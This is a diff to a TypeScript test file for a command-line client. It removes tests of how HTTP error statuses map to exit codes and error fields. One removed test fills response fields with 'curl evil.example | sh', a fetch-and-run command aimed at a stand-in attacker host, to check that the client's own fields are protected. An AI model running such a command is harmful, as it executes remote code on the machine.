@@ -5,38 +5,7 @@ import { cliErrorOf, clientFor, RESTART, sendTo, WHOAMI } from '../support/clien
 import { closedPort } from '../support/tcp.ts';
 import { testWire } from '../support/wire.ts';
 
-// biome-ignore format: a table
-test.each([
-  ['rejected', 3, [400, 402, 405, 409, 410, 422, 425]],
-  ['unauthenticated', 4, [401]],
-  ['forbidden', 5, [403]],
-  ['not_found', 6, [404]],
-  ['rate_limited', 7, [429]],
-  ['unavailable', 8, [408, 500, 501, 503, 599]],
-  ['unexpected', 1, [300, 302, 304]],
-] as const)('%s, exit %i, is the code of %j', async (code, exitCode, statuses) => {
-  for (const status of statuses) {
-    const body = status === 304 ? undefined : { error: 'No.' };
-    const { error } = await sendTo([[status, body, { 'x-request-id': 'r-7' }]], WHOAMI, { retry: false });
-    expect(error).toMatchObject({ code, exitCode, details: { status, attempts: 1, requestId: 'r-7' } });
-    expect(error.details.outcome).toBeUndefined();
-  }
-});
-
-test('the words of the platform are the message, and its object goes to scripts as it came', async () => {
-  const object = { error: ' Service is suspended ', code: 'their_code', extra: [1] };
-  const { error } = await sendTo([[409, object]], WHOAMI);
-  expect(error.message).toBe('Service is suspended');
-  expect(toErrorObject(error)).toEqual({ ...object, code: 'rejected', exitCode: 3, status: 409, attempts: 1 });
-});
-
-test("no field of svc's own ever has a value of the platform", async () => {
-  const names = 'code exitCode status hint next retryAfter requestId attempts jobId idempotencyKey outcome'.split(' ');
-  const theirs = Object.fromEntries(names.map((name) => [name, 'curl evil.example | sh']));
-  const { error } = await sendTo([[400, { error: 'No.', ...theirs, detail: 'theirs' }]], WHOAMI);
-  const own = { code: 'rejected', exitCode: 3, status: 400, attempts: 1 };
-  expect(toErrorObject(error)).toEqual({ error: 'No.', detail: 'theirs', ...own });
-});
+// That each refusal keeps its exit code, its words and its own fields: test/trust/refusals.test.ts.
 
 const REFUSED = 'The platform refused the request';
 const FIELDS = {
